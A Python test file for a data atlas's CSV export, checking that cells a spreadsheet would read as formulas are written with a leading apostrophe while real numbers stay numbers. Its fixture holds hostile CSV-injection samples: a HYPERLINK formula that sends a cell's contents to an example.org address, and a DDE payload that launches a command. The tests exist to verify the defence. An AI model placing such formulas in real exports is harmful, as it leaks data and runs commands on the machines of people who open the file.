"""Issue #16, finding 4: text that a spreadsheet would run as a formula is exported as text.

Notes, names and titles beginning with ``=``, ``+``, ``-``, ``@``, tab or carriage return are written with a
leading ``'`` (OWASP's CSV injection guidance) in every CSV the atlas makes: the map page's "Download CSV"
(``map_view.to_csv``), the export's CSV and the zip's CSV and metadata sheet. Real numbers, negative ones
included, stay numbers.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile
from datetime import datetime, timezone

import duckdb
import pytest

from atlas import db
from atlas.catalogue import Text
from atlas.export.context import load_context
from atlas.export.data_export import data_csv, data_zip, file_stem
from atlas.views import map_view as mapview
from atlas.views.spreadsheet import FORMULA_START, csv_bytes, text_cell
from tests.test_export_render import IND, make_export_db

WHEN = datetime(2026, 11, 26, 14, 3, tzinfo=timezone.utc)
HYPERLINK = '=HYPERLINK("http://example.org/x?leak="&A1,"Ayrıntılar")'
DDE = "-2+3+cmd|' /C calc'!A0"
HOSTILE = {  # area code → (name, note): each begins with one of OWASP's formula characters
    "91001": ("+Karşıyaka", HYPERLINK),
    "91002": ("@SUM(1+1)*cmd|' /C calc'!A0", DDE),
    "92001": ("\t=1+1", "\r=1+1"),
}


def cells(raw: bytes) -> list[list[str]]:
    assert raw.startswith("\ufeff".encode("utf-8"))
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would read as a formula: a formula character first and not a plain number."""
    out = []
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                try:
                    float(cell)
                except ValueError:
                    out.append(cell)
    return out


@pytest.fixture
def hostile_view(tmp_path):
    path = make_export_db(tmp_path / "export.duckdb")
    raw = duckdb.connect(str(path))
    for code, (name, note) in HOSTILE.items():
        raw.execute("UPDATE areas SET name = $name WHERE code = $code", {"name": name, "code": code})
        raw.execute("UPDATE indicator_values SET note_tr = $note, note_en = $note WHERE area_code = $code",
                    {"note": note, "code": code})
    raw.close()
    ind = dataclasses.replace(IND, title=Text("=1+1 başlık", "=1+1 title"), source=Text(DDE, DDE))
    con = db.connect(path)
    try:
        mv = mapview.build_map_view(con, ind, "2023", "mahalle", "quantiles", 3, "en")
        yield mv, load_context(con, mv)
    finally:
        con.close()


def test_text_cells_of_the_issue_are_prefixed_numbers_are_not():
    assert text_cell(HYPERLINK) == "'" + HYPERLINK
    assert text_cell(DDE) == "'" + DDE
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert text_cell(start + "1+1") == "'" + start + "1+1"
    assert text_cell("-2.5") == "-2.5" and text_cell("+3") == "+3" and text_cell("-1e-3") == "-1e-3"
    assert text_cell("Karşıyaka") == "Karşıyaka" and text_cell("") == ""


def test_map_download_and_export_csv_write_formulas_as_text(hostile_view):
    mv, _ = hostile_view
    for raw in (mapview.to_csv(mv), data_csv(mv)):
        rows = cells(raw)
        assert formula_cells(rows) == []
        by_code = {r[rows[0].index("area_code")]: dict(zip(rows[0], r)) for r in rows[1:]}
        for code, (name, note) in HOSTILE.items():
            assert by_code[code]["name"] == "'" + name
            assert by_code[code]["note"] == "'" + note.strip()  # the view strips white space around notes
        assert {r["source"] for r in by_code.values()} == {"'" + DDE}
        # numbers stay numbers: diff_izmir is negative (the İzmir value is 20), written unquoted
        assert by_code["91001"]["diff_izmir"] == "-10.0"
        assert "\n" + '"test_share"' in raw.decode("utf-8-sig")  # text is quoted
        assert ",-10.0," in raw.decode("utf-8-sig")  # a negative number is not


def test_zip_csv_and_metadata_sheet_write_formulas_as_text(hostile_view):
    mv, ctx = hostile_view
    with zipfile.ZipFile(io.BytesIO(data_zip(mv, ctx, exported_at=WHEN))) as zf:
        values = cells(zf.read(f"{file_stem(mv)}.csv"))
        meta = cells(zf.read("metadata.csv"))
    assert formula_cells(values) == [] and formula_cells(meta) == []
    sheet = {r[0]: r[2] for r in meta[1:]}
    assert sheet["title"] == "'=1+1 title" and sheet["source"] == "'" + DDE


def test_csv_bytes_keeps_numbers_and_empty_cells():
    import pandas as pd

    df = pd.DataFrame({"n": pd.array([-3, None], dtype="Int64"), "x": [-2.5, float("nan")],
                       "t": ["-2.5", "a;=1+1"]})
    assert csv_bytes(df).decode("utf-8-sig") == '"n","x","t"\n-3,-2.5,"-2.5"\n,,"a;=1+1"\n'
